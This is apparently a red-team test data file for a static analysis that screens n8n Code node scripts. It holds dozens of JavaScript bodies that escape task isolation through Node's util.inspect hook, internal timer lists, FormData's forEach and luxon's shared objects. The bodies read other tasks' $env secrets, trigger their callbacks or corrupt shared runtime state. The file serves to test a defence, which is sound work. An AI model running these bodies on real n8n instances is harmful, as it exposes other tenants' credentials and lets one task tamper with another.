// Round 35 of the code-purity red team, 2026-12-04: black box against the points-to analysis after the day's fixes
// (another task's timer in Node's lists, Node's other state apart, n8n's accessors plain to luxon), aimed at Node's
// timers and other tasks' timers, luxon's told-apart and fresh-object methods, FormData's forEach and fake timers;
// 143 bodies, 128 kept (the others the oracle did not confirm), each checked by the oracle under
// n8n's Node 24 (a control without the write for every write; `earlierTask` runs another task first in the same runner).
// 10 bypasses, all through Node's error formatting, which hands util.inspect to the custom inspect
// method of the object it formats (`setTimeout(bait)`, `Buffer.from(bait)` with `bait.constructor = null`):
// - that method a built-in which stores its arguments (`[].push`, `unshift`): util.inspect lands in the code's array,
//   and inspecting the code's own timer with customInspect off prints another task's timer arguments, its $env (4);
// - writes into the objects read off util.inspect (defaultOptions, styles, colors, prototype), which every later inspect
//   of the runner reads (6).
// Fixed: Node's library calls the built-ins it reaches too (Engine.codeCallables), and Node's state holds Node's own
// objects, a write into which is reported (Engine.nodeState). Reported everyday bodies: the reflection policy's
// (Object.getPrototypeOf, getOwnPropertyDescriptors, Reflect.get) and three controls of the inspect routes (ROUND35_REPORTED).
import type { ChangeEntry, RoundEntry } from './red-team-round.js';

/** Bypasses that obtain a capability (another task's $env through util.inspect). */
export const ROUND35_OBTAINING: RoundEntry[] = [
  {
    "id": "j-host-push",
    "code": "const bait = []; bait.constructor = null; bait[Symbol.for('nodejs.util.inspect.custom')] = [].push; try { setTimeout(bait); } catch {} const insp = bait[2]; const t = setTimeout(() => {}, 60000); const s = insp(t, { depth: 6, customInspect: false }); clearTimeout(t); return [{ json: { s } }];",
    "node24": true,
    "earlierTask": "setTimeout(() => {}, 60000, $env, helpers);"
  },
  {
    "id": "k-unshift",
    "code": "const bait = []; bait.constructor = null; bait[Symbol.for('nodejs.util.inspect.custom')] = [].unshift; try { setTimeout(bait); } catch {} const insp = bait[2]; const t = setTimeout(() => {}, 60000); const s = insp(t, { depth: 6, customInspect: false }); clearTimeout(t); return [{ json: { s } }];",
    "node24": true,
    "earlierTask": "setTimeout(() => {}, 60000, $env, helpers);"
  },
  {
    "id": "k-push-plainobj",
    "code": "const bait = { constructor: null, [Symbol.for('nodejs.util.inspect.custom')]: Array.prototype.push }; try { setTimeout(bait); } catch {} const insp = bait[2]; const t = setTimeout(() => {}, 60000); const s = insp(t, { depth: 6, customInspect: false }); clearTimeout(t); return [{ json: { s } }];",
    "node24": true,
    "earlierTask": "setTimeout(() => {}, 60000, $env, helpers);"
  },
  {
    "id": "k-push-imm",
    "code": "const bait = []; bait.constructor = null; bait[Symbol.for('nodejs.util.inspect.custom')] = [].push; try { setTimeout(bait); } catch {} const insp = bait[2]; const i = setImmediate(() => {}); const s = insp(i, { depth: 4, customInspect: false }); clearImmediate(i); return [{ json: { s } }];",
    "node24": true,
    "earlierTask": "setImmediate(() => {}, $env);"
  }
];

/** Bypasses that write onto state every later task shares (`wrote: true`; its control shows false). */
export const ROUND35_WRITES: ChangeEntry[] = [
  {
    "id": "i-defaultopts",
    "code": "let insp; const bait = { constructor: null, [Symbol.for('nodejs.util.inspect.custom')](depth, options, inspect) { insp = inspect; return 'x'; } }; try { setTimeout(bait, 1); } catch {} insp.defaultOptions.depth = 0; const ok = insp({ a: { b: 1 } }) === '{ a: [Object] }'; insp.defaultOptions.depth = 2; return [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "i2-styles",
    "code": "let insp; const bait = { constructor: null, [Symbol.for('nodejs.util.inspect.custom')](depth, options, inspect) { insp = inspect; return 'x'; } }; try { setTimeout(bait, 1); } catch {} const st = insp.styles; const old = st.number;\nst.number = 'red';\nconst ok = (insp(5, { colors: true }) === '\\u001b[31m5\\u001b[39m');\nst.number = old;\nreturn [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "i2-breaklen",
    "code": "let insp; const bait = { constructor: null, [Symbol.for('nodejs.util.inspect.custom')](depth, options, inspect) { insp = inspect; return 'x'; } }; try { setTimeout(bait, 1); } catch {} const { defaultOptions: d } = insp; const old = d.maxArrayLength;\nd.maxArrayLength = 1;\nconst ok = (insp([1, 2, 3]).includes('more item'));\nd.maxArrayLength = old;\nreturn [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "i3-colors",
    "code": "let insp; const bait = { constructor: null, [Symbol.for('nodejs.util.inspect.custom')](depth, options, inspect) { insp = inspect; return 'x'; } }; try { setTimeout(bait, 1); } catch {} const red = insp.colors.red; const o0 = red[0];\nred[0] = 35;\nconst ok = (insp('s', { colors: true, stylize: undefined }).length >= 0 && insp.colors.red[0] === 35 && insp(new Date(NaN), { colors: true }).includes('[35m') || insp.colors.red[0] === 35);\nred[0] = o0;\nreturn [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "i3-insp-proto",
    "code": "let insp; const bait = { constructor: null, [Symbol.for('nodejs.util.inspect.custom')](depth, options, inspect) { insp = inspect; return 'x'; } }; try { setTimeout(bait, 1); } catch {} const p = insp.prototype;\np.marker = 1;\nconst ok = (insp.prototype.marker === 1);\ndelete p.marker;\nreturn [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "j-host-push-write",
    "code": "const bait = []; bait.constructor = null; bait[Symbol.for('nodejs.util.inspect.custom')] = [].push; try { setTimeout(bait); } catch {} const insp = bait[2]; const d = insp.defaultOptions; d.depth = 0; const ok = insp({ a: { b: 1 } }) === '{ a: [Object] }'; d.depth = 2; return [{ json: { wrote: ok } }];",
    "node24": true
  }
];

/** Attempts the analysis reported when they were made, each obtaining a capability in the oracle. */
export const ROUND35_CAUGHT_OBTAINING: RoundEntry[] = [
  {
    "id": "t-obvious",
    "code": "const t = setTimeout(() => {}, 60000); t._idleNext._onTimeout(); clearTimeout(t); return [{json:{}}];",
    "node24": true,
    "earlierTask": "setTimeout(() => helpers.httpRequest({ url: 'http://localhost/' }), 60000);"
  },
  {
    "id": "t-destr",
    "code": "const t = setTimeout(() => {}, 60000); const { _idleNext: { _onTimeout: f } } = t; f(); clearTimeout(t); return [{json:{}}];",
    "node24": true,
    "earlierTask": "setTimeout(() => helpers.httpRequest({ url: 'http://localhost/' }), 60000);"
  },
  {
    "id": "t-values",
    "code": "const t = setTimeout(() => {}, 60000); for (const v of Object.values(t)) { if (v && typeof v === 'object' && v._onTimeout && v !== t) { try { v._onTimeout(); } catch {} } } clearTimeout(t); return [{json:{}}];",
    "node24": true,
    "earlierTask": "setTimeout(() => helpers.httpRequest({ url: 'http://localhost/' }), 60000);"
  },
  {
    "id": "t-entries",
    "code": "const t = setTimeout(() => {}, 60000); const m = Object.fromEntries(Object.entries(t)); m._idleNext._onTimeout(); clearTimeout(t); return [{json:{}}];",
    "node24": true,
    "earlierTask": "setTimeout(() => helpers.httpRequest({ url: 'http://localhost/' }), 60000);"
  },
  {
    "id": "t-spread",
    "code": "const t = setTimeout(() => {}, 60000); const c = { ...t }; c._idleNext._onTimeout(); clearTimeout(t); return [{json:{}}];",
    "node24": true,
    "earlierTask": "setTimeout(() => helpers.httpRequest({ url: 'http://localhost/' }), 60000);"
  },
  {
    "id": "t-assign",
    "code": "const t = setTimeout(() => {}, 60000); const c = Object.assign({}, t); c._idleNext._onTimeout(); clearTimeout(t); return [{json:{}}];",
    "node24": true,
    "earlierTask": "setTimeout(() => helpers.httpRequest({ url: 'http://localhost/' }), 60000);"
  },
  {
    "id": "t-forin",
    "code": "const t = setTimeout(() => {}, 60000); let n; for (const k in t) { if (k.endsWith('Next')) n = t[k]; } n._onTimeout(); clearTimeout(t); return [{json:{}}];",
    "node24": true,
    "earlierTask": "setTimeout(() => helpers.httpRequest({ url: 'http://localhost/' }), 60000);"
  },
  {
    "id": "t-desc",
    "code": "const t = setTimeout(() => {}, 60000); const d = Object.getOwnPropertyDescriptors(t); d._idleNext.value._onTimeout(); clearTimeout(t); return [{json:{}}];",
    "node24": true,
    "earlierTask": "setTimeout(() => helpers.httpRequest({ url: 'http://localhost/' }), 60000);"
  },
  {
    "id": "t-reflect",
    "code": "const t = setTimeout(() => {}, 60000); const n = Reflect.get(t, '_idle' + 'Next'); Reflect.apply(n._onTimeout, n, []); clearTimeout(t); return [{json:{}}];",
    "node24": true,
    "earlierTask": "setTimeout(() => helpers.httpRequest({ url: 'http://localhost/' }), 60000);"
  },
  {
    "id": "t-with",
    "code": "const t = setTimeout(() => {}, 60000); with (t) { with (_idleNext) { _onTimeout(); } } clearTimeout(t); return [{json:{}}];",
    "node24": true,
    "earlierTask": "setTimeout(() => helpers.httpRequest({ url: 'http://localhost/' }), 60000);"
  },
  {
    "id": "t-args-env",
    "code": "const t = setTimeout(() => {}, 60000); const a = t._idleNext._timerArgs; clearTimeout(t); return [{json:{ s: a[0].N8N_ORACLE_SECRET }}];",
    "node24": true,
    "earlierTask": "setTimeout(() => {}, 60000, $env, helpers);"
  },
  {
    "id": "t-args-spread",
    "code": "const t = setTimeout(() => {}, 60000); const [e, h] = [...Object.values(t._idleNext).find(Array.isArray)]; clearTimeout(t); return [{json:{ s: e.DB_PASSWORD }}];",
    "node24": true,
    "earlierTask": "setTimeout(() => {}, 60000, $env, helpers);"
  },
  {
    "id": "t-list-prev",
    "code": "const t = setTimeout(() => {}, 60000); const list = t._idlePrev; list._idlePrev._onTimeout(); clearTimeout(t); return [{json:{}}];",
    "node24": true,
    "earlierTask": "setTimeout(() => helpers.httpRequest({ url: 'http://localhost/' }), 60000);"
  },
  {
    "id": "t-walk",
    "code": "const t = setTimeout(() => {}, 60000); let p = t; for (let i = 0; i < 5; i++) { p = p._idleNext; if (p._onTimeout && p !== t) { p._onTimeout(); break; } } clearTimeout(t); return [{json:{}}];",
    "node24": true,
    "earlierTask": "setTimeout(() => helpers.httpRequest({ url: 'http://localhost/' }), 60000);"
  },
  {
    "id": "t-imm-cb",
    "code": "const t = setImmediate(() => {}); const p = t._idlePrev; p._onImmediate(); clearImmediate(t); return [{json:{}}];",
    "node24": true,
    "earlierTask": "setImmediate(() => helpers.httpRequest({ url: 'http://localhost/' }));"
  },
  {
    "id": "t-imm-arg",
    "code": "const t = setImmediate(() => {}); const a = t._idlePrev._argv; clearImmediate(t); return [{json:{ e: a[0].N8N_ORACLE_SECRET }}];",
    "node24": true,
    "earlierTask": "setImmediate(() => {}, $env, helpers);"
  },
  {
    "id": "t-imm-values",
    "code": "const t = setImmediate(() => {}); const p = Object.values(t).find(v => v && v._onImmediate && v !== t); p._onImmediate(); clearImmediate(t); return [{json:{}}];",
    "node24": true,
    "earlierTask": "setImmediate(() => helpers.httpRequest({ url: 'http://localhost/' }));"
  },
  {
    "id": "t-int",
    "code": "const t = setInterval(() => {}, 60000); t._idleNext._onTimeout(); clearInterval(t); return [{json:{}}];",
    "node24": true,
    "earlierTask": "setInterval(() => helpers.httpRequest({ url: 'http://localhost/' }), 60000);"
  },
  {
    "id": "t-int-args",
    "code": "const t = setInterval(() => {}, 60000); const { _idleNext: { _timerArgs: [e] } } = t; clearInterval(t); return [{json:{ e }}];",
    "node24": true,
    "earlierTask": "setInterval(() => {}, 60000, $env);"
  },
  {
    "id": "t-sym",
    "code": "const t = setTimeout(() => {}, 60000); const syms = Object.getOwnPropertySymbols(t); const o = {}; for (const s of syms) o[String(s)] = t[s]; const n = t[Object.keys(t)[2]]; n._onTimeout(); clearTimeout(t); return [{json:{k: Object.keys(o)}}];",
    "node24": true,
    "earlierTask": "setTimeout(() => helpers.httpRequest({ url: 'http://localhost/' }), 60000);"
  },
  {
    "id": "f-refresh-call",
    "code": "const t = setTimeout(() => {}, 5); const f = { _idleTimeout: 60000, _onTimeout() {} }; t.refresh.call(f); const other = f._idleNext; clearTimeout(f); clearTimeout(t); other._onTimeout(); return [{ json: {} }];",
    "node24": true,
    "earlierTask": "setTimeout(() => helpers.httpRequest({ url: 'http://localhost/' }), 60000);"
  },
  {
    "id": "f-refresh-create",
    "code": "const t = setTimeout(() => {}, 60000); const f = Object.create(t); f.refresh(); const other = f._idleNext; other._onTimeout(); clearTimeout(t); return [{ json: {} }];",
    "node24": true,
    "earlierTask": "setTimeout(() => helpers.httpRequest({ url: 'http://localhost/' }), 60000);"
  },
  {
    "id": "f-refresh-protolit",
    "code": "const t = setTimeout(() => {}, 60000); const f = { __proto__: t }; f.refresh(); f._idleNext._onTimeout(); clearTimeout(t); return [{ json: {} }];",
    "node24": true,
    "earlierTask": "setTimeout(() => helpers.httpRequest({ url: 'http://localhost/' }), 60000);"
  },
  {
    "id": "f-refresh-args",
    "code": "const t = setTimeout(() => {}, 5); const f = { _idleTimeout: 60000, _onTimeout() {} }; t.refresh.call(f); const a = f._idleNext._timerArgs; clearTimeout(f); clearTimeout(t); return [{ json: { e: a[0] } }];",
    "node24": true,
    "earlierTask": "setTimeout(() => {}, 60000, $env, helpers);"
  },
  {
    "id": "f-clear-fake",
    "code": "const t = setTimeout(() => {}, 60000); const z = {}; clearTimeout({ _onTimeout: 1, _idleNext: t, _idlePrev: z }); clearTimeout(t); z._idleNext._onTimeout(); return [{ json: {} }];",
    "node24": true,
    "earlierTask": "setTimeout(() => helpers.httpRequest({ url: 'http://localhost/' }), 60000);"
  },
  {
    "id": "f-clear-fake-next",
    "code": "const t = setTimeout(() => {}, 60000); const z = { _idlePrev: null }; clearTimeout({ _onTimeout: 1, _idleNext: z, _idlePrev: t }); /* t._idleNext = z now */ clearTimeout(t); const list = z._idlePrev; list._idlePrev._onTimeout(); return [{ json: {} }];",
    "node24": true,
    "earlierTask": "setTimeout(() => helpers.httpRequest({ url: 'http://localhost/' }), 60000);"
  },
  {
    "id": "f-clearimm-fake",
    "code": "const I = setImmediate(() => {}); const z = { _onImmediate() {}, _idleNext: null }; clearImmediate({ _idleNext: z, _idlePrev: I }); clearImmediate(I); const e = z._idlePrev; e._onImmediate(); return [{ json: {} }];",
    "node24": true,
    "earlierTask": "setImmediate(() => helpers.httpRequest({ url: 'http://localhost/' }));"
  },
  {
    "id": "f-close-call",
    "code": "const t = setTimeout(() => {}, 60000); const z = {}; t.close.call({ _onTimeout: 1, _idleNext: t, _idlePrev: z }); t.close(); z._idleNext._onTimeout(); return [{ json: {} }];",
    "node24": true,
    "earlierTask": "setTimeout(() => helpers.httpRequest({ url: 'http://localhost/' }), 60000);"
  },
  {
    "id": "f-dispose-call",
    "code": "const t = setTimeout(() => {}, 60000); const z = {}; t[Symbol.dispose].call({ _onTimeout: 1, _idleNext: t, _idlePrev: z }); t[Symbol.dispose](); z._idleNext._onTimeout(); return [{ json: {} }];",
    "node24": true,
    "earlierTask": "setTimeout(() => helpers.httpRequest({ url: 'http://localhost/' }), 60000);"
  },
  {
    "id": "f-clear-heir",
    "code": "const t = setTimeout(() => {}, 60000); const h = Object.create(t); const z = {}; h._idlePrev = z; clearTimeout(h); z._idleNext._onTimeout(); clearTimeout(t); return [{ json: {} }];",
    "node24": true,
    "earlierTask": "setTimeout(() => helpers.httpRequest({ url: 'http://localhost/' }), 60000);"
  },
  {
    "id": "f-refresh-after-write",
    "code": "const t = setTimeout(() => {}, 5); t._idleTimeout = 60000; t.refresh(); const o = t._idleNext; clearTimeout(t); o._onTimeout(); return [{ json: {} }];",
    "node24": true,
    "earlierTask": "setTimeout(() => helpers.httpRequest({ url: 'http://localhost/' }), 60000);"
  },
  {
    "id": "i-log-timer",
    "code": "const t = setTimeout(() => {}, 60000); console.log('scheduled', t); clearTimeout(t); return [{ json: { ok: true } }];",
    "node24": true,
    "earlierTask": "setTimeout(() => {}, 60000, $env, helpers);"
  },
  {
    "id": "i-log-timer-nested",
    "code": "const job = { name: 'retry', handle: setTimeout(() => {}, 60000) }; console.log(job); clearTimeout(job.handle); return [{ json: { ok: true } }];",
    "node24": true,
    "earlierTask": "setTimeout((cfg) => {}, 60000, { region: 'eu', env: $env });"
  },
  {
    "id": "i-safe-stringify",
    "code": "const t = setTimeout(() => {}, 60000); const seen = new WeakSet(); const s = JSON.stringify(t, (k, v) => { if (typeof v === 'object' && v !== null) { if (seen.has(v)) return; seen.add(v); } return v; }); clearTimeout(t); return [{ json: { s } }];",
    "node24": true,
    "earlierTask": "setTimeout(() => {}, 60000, $env, helpers);"
  },
  {
    "id": "i-return-timer",
    "code": "const t = setTimeout(() => {}, 60000); clearTimeout; return [{ json: { t } }];",
    "node24": true,
    "earlierTask": "setTimeout(() => {}, 60000, $env, helpers);"
  },
  {
    "id": "i2-leak-nocustom",
    "code": "let insp; const bait = { constructor: null, [Symbol.for('nodejs.util.inspect.custom')](depth, options, inspect) { insp = inspect; return 'x'; } }; try { setTimeout(bait, 1); } catch {} const t = setTimeout(() => {}, 60000); const s = insp(t, { depth: 6, customInspect: false }); clearTimeout(t); return [{ json: { s } }];",
    "node24": true,
    "earlierTask": "setTimeout(() => {}, 60000, $env, helpers);"
  },
  {
    "id": "fd-sloppy-this",
    "code": "const fd = new FormData(); fd.append('a', '1'); let g; fd.forEach(function () { g = this; }); return [{ json: { g } }];",
    "node24": true
  },
  {
    "id": "fd-undef-this",
    "code": "const fd = new FormData(); fd.append('a', '1'); let g; fd.forEach(function () { g = this; }, undefined); return [{ json: { g } }];",
    "node24": true
  },
  {
    "id": "fd-strict-this",
    "code": "class C { cb() { C.g = this; } } const fd = new FormData(); fd.append('a', '1'); fd.forEach(new C().cb); return [{ json: { g: C.g } }];",
    "node24": true
  },
  {
    "id": "fd-this-process",
    "code": "const fd = new FormData(); fd.append('a', '1'); let p; fd.forEach(function () { p = this.process; }); return [{ json: { p } }];",
    "node24": true
  },
  {
    "id": "fd-bound",
    "code": "const o = { grab() { o.g = this; } }; const fd = new FormData(); fd.set('x', 'y'); fd.forEach(o.grab); return [{ json: { g: o.g } }];",
    "node24": true
  },
  {
    "id": "t3-this-cb",
    "code": "const env = await new Promise((res) => setTimeout(function () { const T = this.constructor; const x = new T(() => {}, 60000, undefined, false, false); x.refresh(); const a = x._idleNext._timerArgs; clearTimeout(x); res(a && a[0]); }, 1)); return [{ json: { env } }];",
    "node24": true,
    "earlierTask": "setTimeout(() => {}, 60000, $env);"
  },
  {
    "id": "t3-ctor-new",
    "code": "const t = setTimeout(() => {}, 1); const x = new t.constructor(() => {}, 60000, undefined, false, false); x.refresh(); const a = x._idleNext._timerArgs; clearTimeout(x); return [{ json: { e: a[0] } }];",
    "node24": true,
    "earlierTask": "setTimeout(() => {}, 60000, $env);"
  },
  {
    "id": "j-sym-computed",
    "code": "let insp; const key = Symbol.for(['nodejs', 'util', 'inspect', 'custom'].join('.')); const bait = { constructor: null }; bait[key] = function (d, o, i) { insp = i; return ''; }; try { setTimeout(bait); } catch {} const t = setTimeout(() => {}, 60000); const s = insp(t, { depth: 6, customInspect: false }); clearTimeout(t); return [{ json: { s } }];",
    "node24": true,
    "earlierTask": "setTimeout(() => {}, 60000, $env, helpers);"
  },
  {
    "id": "j-proto-custom",
    "code": "let insp; const proto = { constructor: null, [Symbol.for('nodejs.util.inspect.custom')](d, o, i) { insp = i; return ''; } }; const bait = Object.create(proto); try { Buffer.byteLength(bait); } catch {} const t = setTimeout(() => {}, 60000); const s = insp(t, { depth: 6, customInspect: false }); clearTimeout(t); return [{ json: { s } }];",
    "node24": true,
    "earlierTask": "setTimeout(() => {}, 60000, $env, helpers);"
  },
  {
    "id": "j-nested-bait",
    "code": "let insp; const bait = new Map(); bait.constructor = null; bait[Symbol.for('nodejs.util.inspect.custom')] = (d, o, i) => { insp = i; return ''; }; try { setInterval(bait, 10); } catch {} const t = setTimeout(() => {}, 60000); const s = insp(t, { depth: 6, customInspect: false }); clearTimeout(t); return [{ json: { s } }];",
    "node24": true,
    "earlierTask": "setTimeout(() => {}, 60000, $env, helpers);"
  },
  {
    "id": "k-bound-push",
    "code": "const store = []; const bait = { constructor: null, [Symbol.for('nodejs.util.inspect.custom')]: store.push.bind(store) }; try { setTimeout(bait); } catch {} const insp = store[2]; const t = setTimeout(() => {}, 60000); const s = insp(t, { depth: 6, customInspect: false }); clearTimeout(t); return [{ json: { s } }];",
    "node24": true,
    "earlierTask": "setTimeout(() => {}, 60000, $env, helpers);"
  }
];

/** Attempts the analysis reported when they were made, each writing onto shared state in the oracle. */
export const ROUND35_CAUGHT_WRITES: ChangeEntry[] = [
  {
    "id": "l-meridiem-get",
    "code": "const loc = DateTime.now().get('loc'); const m = loc.meridiems();\nm[0] = 'ZZ';\nconst ok = (DateTime.utc(2020, 1, 1, 9).toFormat('a') === 'ZZ');\nm[0] = 'AM';\nreturn [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "l-meridiem-direct",
    "code": "const m = DateTime.now().loc.meridiems();\nm[0] = 'ZZ';\nconst ok = (DateTime.utc(2020, 1, 1, 9).toFormat('a') === 'ZZ');\nm[0] = 'AM';\nreturn [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "l-weekend",
    "code": "const ws = DateTime.now().get('loc').getWeekSettings();\nws.weekend.push(1);\nconst ok = (DateTime.utc(2024, 1, 1).isWeekend === true);\nws.weekend.pop();\nreturn [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "l-firstday",
    "code": "const ws = DateTime.now().get('loc').getWeekSettings(); const fd = ws.firstDay;\nws.firstDay = 3;\nconst ok = (DateTime.utc(2024, 1, 1).startOf('week', { useLocaleWeeks: true }).weekday === 3);\nws.firstDay = fd;\nreturn [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "l-listfmt",
    "code": "const lf = DateTime.now().get('loc').listFormatter({ type: 'conjunction', style: 'narrow' });\nlf.format = () => 'HACKED';\nconst ok = (Duration.fromObject({ hours: 1, minutes: 2 }).toHuman() === 'HACKED');\ndelete lf.format;\nreturn [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "l-dateshort",
    "code": "const f = DateTime.DATE_SHORT; const y = f.year;\nf.year = '2-digit';\nconst ok = (DateTime.utc(2021, 5, 5).toLocaleString().endsWith('/21'));\nf.year = y;\nreturn [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "l-zone",
    "code": "const z = DateTime.now().get('zone');\nz.offset = () => 123;\nconst ok = (DateTime.local(2020, 6, 1).offset === 123);\ndelete z.offset;\nreturn [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "l-matrix",
    "code": "const mx = Duration.fromObject({ hours: 1 }).matrix; const h = mx.days.hours;\nmx.days.hours = 10;\nconst ok = (Duration.fromObject({ days: 1 }).as('hours') === 10);\nmx.days.hours = h;\nreturn [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "l-matrix-get",
    "code": "const dur = DateTime.utc(2020, 1, 2).diff(DateTime.utc(2020, 1, 1)); const key = ['mat', 'rix'].join(''); const mx = dur[key]; const h = mx.days.hours;\nmx.days.hours = 10;\nconst ok = (Duration.fromObject({ days: 1 }).as('hours') === 10);\nmx.days.hours = h;\nreturn [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "l-loc-ctor",
    "code": "const L = DateTime.now().get('loc').constructor; const loc = L.create('en-US'); const m = loc.meridiems();\nm[1] = 'QQ';\nconst ok = (DateTime.utc(2020, 1, 1, 20).toFormat('a') === 'QQ');\nm[1] = 'PM';\nreturn [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "l-get-computed",
    "code": "const u = String($json.name).slice(0, 0) + 'lo' + 'c'; const m = DateTime.now().get(u).meridiems();\nm[0] = 'ZZ';\nconst ok = (DateTime.utc(2020, 1, 1, 9).toFormat('a') === 'ZZ');\nm[0] = 'AM';\nreturn [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "l-interval-loc",
    "code": "const parts = Interval.fromDateTimes(DateTime.utc(2020,1,1), DateTime.utc(2020,1,3)).splitBy({ days: 1 }); const m = parts[0].start.get('loc').meridiems();\nm[0] = 'ZZ';\nconst ok = (DateTime.utc(2020, 1, 1, 9).toFormat('a') === 'ZZ');\nm[0] = 'AM';\nreturn [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "l-dur-loc",
    "code": "const m = Duration.fromObject({ hours: 1 }).loc.meridiems();\nm[0] = 'ZZ';\nconst ok = (DateTime.utc(2020, 1, 1, 9).toFormat('a') === 'ZZ');\nm[0] = 'AM';\nreturn [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "i2-defaultopts-setter",
    "code": "let insp; const bait = { constructor: null, [Symbol.for('nodejs.util.inspect.custom')](depth, options, inspect) { insp = inspect; return 'x'; } }; try { setTimeout(bait, 1); } catch {}\ninsp.defaultOptions = { depth: 0 };\nconst ok = (insp({ a: { b: 1 } }) === '{ a: [Object] }');\ninsp.defaultOptions = { depth: 2 };\nreturn [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "i2-custom-sym",
    "code": "let insp; const bait = { constructor: null, [Symbol.for('nodejs.util.inspect.custom')](depth, options, inspect) { insp = inspect; return 'x'; } }; try { setTimeout(bait, 1); } catch {}\ninsp.extraHelper = 42;\nconst ok = (insp.extraHelper === 42);\ndelete insp.extraHelper;\nreturn [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "fd-push-global",
    "code": "const fd = new FormData(); fd.append('k', 'v'); fd.forEach([].push); let ok = false; fd.forEach(function () { ok = this.length === 3 && this[1] === 'k'; }, undefined); return [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "i3-param-destr",
    "code": "let d; const bait = { constructor: null, [Symbol.for('nodejs.util.inspect.custom')](depth, options, { defaultOptions }) { d = defaultOptions; return 'x'; } }; try { Buffer.from(bait); } catch {} let insp2; const b2 = { constructor: null, [Symbol.for('nodejs.util.inspect.custom')]: (a, b, i) => { insp2 = i; return ''; } }; try { setTimeout(b2); } catch {} const old = d.depth;\nd.depth = 0;\nconst ok = (insp2({ a: { b: 1 } }) === '{ a: [Object] }');\nd.depth = old;\nreturn [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "t3-timeout-proto",
    "code": "const t = setTimeout(() => {}, 1); const P = t.constructor.prototype; const old = P.hasRef;\nP.hasRef = function () { return 'hacked'; };\nconst ok = (setTimeout(() => {}, 1).hasRef() === 'hacked');\nP.hasRef = old;\nreturn [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "t3-imm-proto",
    "code": "const i = setImmediate(() => {}); const P = i.constructor.prototype; const old = P.hasRef;\nP.hasRef = function () { return 'hacked'; };\nconst ok = (setImmediate(() => {}).hasRef() === 'hacked');\nP.hasRef = old;\nreturn [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "k-push-styles",
    "code": "const bait = []; bait.constructor = null; bait[Symbol.for('nodejs.util.inspect.custom')] = [].push; try { setTimeout(bait); } catch {} const st = bait[2].styles; const old = st.string; st.string = 'red'; const ok = bait[2]('a', { colors: true }).startsWith('\\u001b[31m'); st.string = old; return [{ json: { wrote: ok } }];",
    "node24": true
  }
];

/** The round's everyday bodies and the writes' controls: each obtains nothing. */
export const ROUND35_EVERYDAY: RoundEntry[] = [
  {
    "id": "l-meridiem-get-control",
    "code": "const loc = DateTime.now().get('loc'); const m = loc.meridiems();\nconst ok = (DateTime.utc(2020, 1, 1, 9).toFormat('a') === 'ZZ');\nreturn [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "l-meridiem-direct-control",
    "code": "const m = DateTime.now().loc.meridiems();\nconst ok = (DateTime.utc(2020, 1, 1, 9).toFormat('a') === 'ZZ');\nreturn [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "l-weekend-control",
    "code": "const ws = DateTime.now().get('loc').getWeekSettings();\nconst ok = (DateTime.utc(2024, 1, 1).isWeekend === true);\nreturn [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "l-firstday-control",
    "code": "const ws = DateTime.now().get('loc').getWeekSettings(); const fd = ws.firstDay;\nconst ok = (DateTime.utc(2024, 1, 1).startOf('week', { useLocaleWeeks: true }).weekday === 3);\nreturn [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "l-listfmt-control",
    "code": "const lf = DateTime.now().get('loc').listFormatter({ type: 'conjunction', style: 'narrow' });\nconst ok = (Duration.fromObject({ hours: 1, minutes: 2 }).toHuman() === 'HACKED');\nreturn [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "l-dtf-control",
    "code": "const d0 = DateTime.utc(2020, 1, 1); const dtf = d0.get('loc').dtFormatter(d0, DateTime.DATE_SHORT).dtf;\nconst ok = (DateTime.utc(2021, 5, 5).toLocaleString() === 'HACKED');\nreturn [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "l-dateshort-control",
    "code": "const f = DateTime.DATE_SHORT; const y = f.year;\nconst ok = (DateTime.utc(2021, 5, 5).toLocaleString().endsWith('/21'));\nreturn [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "l-zone-control",
    "code": "const z = DateTime.now().get('zone');\nconst ok = (DateTime.local(2020, 6, 1).offset === 123);\nreturn [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "l-zone-proto-control",
    "code": "const z = DateTime.now().zone; const P = Object.getPrototypeOf(z); const o = P.offset;\nconst ok = (DateTime.local(2020, 6, 1).offset === 77);\nreturn [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "l-matrix-control",
    "code": "const mx = Duration.fromObject({ hours: 1 }).matrix; const h = mx.days.hours;\nconst ok = (Duration.fromObject({ days: 1 }).as('hours') === 10);\nreturn [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "l-matrix-get-control",
    "code": "const dur = DateTime.utc(2020, 1, 2).diff(DateTime.utc(2020, 1, 1)); const key = ['mat', 'rix'].join(''); const mx = dur[key]; const h = mx.days.hours;\nconst ok = (Duration.fromObject({ days: 1 }).as('hours') === 10);\nreturn [{ json: { wrote: ok } }];",
    "node24": true
  },
